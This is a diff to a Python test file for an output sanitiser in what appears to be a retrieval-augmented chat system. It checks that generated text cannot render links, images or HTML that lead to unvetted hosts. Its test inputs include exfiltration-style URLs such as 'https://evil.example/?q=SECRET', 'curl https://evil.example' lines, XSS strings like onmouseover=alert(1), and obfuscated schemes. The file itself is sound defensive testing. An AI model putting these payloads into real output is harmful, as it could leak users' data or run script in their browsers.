@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from ragways.core.outgoing import outgoing, settled
+from ragways.core.outgoing import outgoing
 from ragways.core.stream import OutgoingText
 from ragways.core.types import Evidence, Hit, Hits, Piece, Query
 from tests.rendered import dangers
@@ -43,7 +43,10 @@ xs: List<Item> = items[0] (y)
         "[guide](https://docs.example.com/guide?x=1)", "see http://ok.example/ or https://ok.example/a.",
         "[rel](docs/a.md) and [part](#part)", "<b>bold</b> <br> <details open>", "    https://evil.example/code",
         "![inline](data:image/png;base64,AAAA)", "C:\\new\\table", "if x <a =3 and y <b c=d",
-        "1 < 2 & 3 > 2 &lt; &amp;", "[1][2] [3, 4]",
+        "1 < 2 & 3 > 2 &lt; &amp;", "[1][2] [3, 4]", "@app.route, and//or, // so", "**https://ok.example/a**, [a|b]",
+        "<https://ok.example/a>: [http://ok.example](http://ok.example)[1]", "| `x` | https://ok.example/a |\n|--|--|",
+        "for a < b\n```sh\ncurl https://evil.example\n```", "see `https://evil.example`, `//evil.example` [1]",
+        "1. Do:\n   ```\n   curl https://evil.example\n\n   x\n   ```", "**Do**:\n\n    curl https://evil.example\n\nend",
     ],
 )  # fmt: skip
 def test_what_is_harmless_is_untouched(text: str):
@@ -71,6 +74,23 @@ def test_what_is_harmless_is_untouched(text: str):
         ("[t][x]\n\n[x]: https://evil.example/r", "[t][x]\n\n`[x]: https://evil.example/r`"),
         ("> - [1]: https://evil.example/r\n> - a", "> - `[1]: https://evil.example/r`\n> - a"),
         ("Use the <a> element or <img>.", "Use the &lt;a> element or &lt;img>."),
+        ("\\https://evil.example/?q=SECRET", "`https://evil.example/?q=SECRET`"),
+        ("a ` b https://evil.example/q", "````\na ` b https://evil.example/q\n````"),
+        ("a ` b https://evil.example/q\n\n**c**", "````\na ` b https://evil.example/q\n````\n\n**c**"),
+        ("<a href=<d>\n```\n\nhttps://evil.example\n```", None),
+        ("| ![a | b](https://evil.example/q) |\n|---|---|", None),
+        ("| ![a | b](https://ok.example/a) |\n|---|---|", None),
+        ("ask bob@evil.example or mailto:x@evil.example?q", "ask `bob@evil.example` or `mailto:x@evil.example?q`"),
+        ("at xmpp:a@evil.example/q and //evil.example/x", "at `xmpp:a@evil.example/q` and `//evil.example/x`"),
+        ("https:\\/\\/evil.example and &#47;&#47;evil.example", None),
+        ("https://ok.example/a|SECRET", "`https://ok.example/a`|SECRET"),
+        ("https://ok.example/a`SECRET`", "`https://ok.example/a` `SECRET`"),
+        ("\\[a](https://ok.example/a)SECRET \\<https://ok.example/a>SECRET", None),
+        ("https://ok.example/a\\<script>alert(1)</script>", None),
+        ("> ```\n> `x\n> ```\nhttps://evil.example `", None),
+        ("- ```\n  x\n  ```\n  https://evil.example\n  ```", None),
+        ("- a\n\n    https://evil.example/q", "- a\n\n    `https://evil.example/q`"),
+        ("[x]:\n```\nhttps://evil.example\n```", None),
         ("_https://evil.example/q_", "_`https://evil.example/q`_"),
         ('<div class="x"style="background:url(//evil.example)">a</div>', None),
         ('<p title="x"onmouseover=alert(1)>', None),
@@ -121,18 +141,12 @@ PIECES = st.sampled_from([
     "[x]: https://evil.example/r\n", "[t][x]", "![t][x]", "[y]: https://ok.example/a\n", "[t][y]", "![t][y]", "[1]",
     "[2, 3]", "**", "_", "    ", "\t", "&#x68;ttps:", "//evil.example", "<pre>\n", "</pre>\n", "<!--\n", "-->\n",
     "<details>\n", "</details>\n", "[^1]: ", "<p title=\"x\"style=\"a\">", "'", '"', "{", "=", "---\n", "]]", "\r\n",
+    "\\https://evil.example/s ", "bob@evil.example ", "mailto:bob@evil.example?x ", "xmpp:a@evil.example/x",
+    "//evil.example/t", "\\`", "`https://evil.example/u`", "``https://evil.example/v ", "| ![a | b", "<a href=<d>",
+    "https://ok.example/a", "|SECRET", "  ", "   ```\n", "> ```\n", "    https://evil.example/w\n", "~~~", "](<", "](",
+    "<d>\n", "<!--", "&#47;", "https:", "/", "<https://ok.example/a>", "[a](https://ok.example/a)", "\f", "[^1]", "$",
+    "+ ", ": ", "```py\n", "</a>",
 ])  # fmt: skip
-
-
-@settings(max_examples=120, deadline=None)
-@given(st.lists(PIECES, max_size=14).map("".join))
-def test_no_text_and_no_beginning_of_one_leads_elsewhere(text: str):
-    said = outgoing(text, EVIDENCE)
-    assert not dangers(said, EVIDENCE)
-    assert outgoing(said, EVIDENCE) == said
-    for end in range(0, len(text), 3):
-        part = text[:end]
-        assert not dangers(outgoing(part[: settled(part)], EVIDENCE), EVIDENCE)
 
 
 def evidence_of(*texts: str) -> Evidence:
@@ -153,6 +167,19 @@ def streamed(text: str, evidence: list[str]) -> list[tuple[str, bool]]:
         listener(text[at : at + 3], restart=at == 0)
     listener.end()
     return pieces
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(PIECES, max_size=14).map("".join))
+def test_no_text_and_no_stream_of_one_leads_elsewhere(text: str):
+    said = outgoing(text, EVIDENCE)
+    assert not dangers(said, EVIDENCE)
+    assert outgoing(said, EVIDENCE) == said
+    shown = ""
+    for piece, restart in streamed(text, EVIDENCE):
+        shown = piece if restart else shown + piece
+        assert not dangers(shown, EVIDENCE)
+    assert shown == said
 
 
 def test_a_stream_equals_the_whole_text_and_is_only_appended_to():
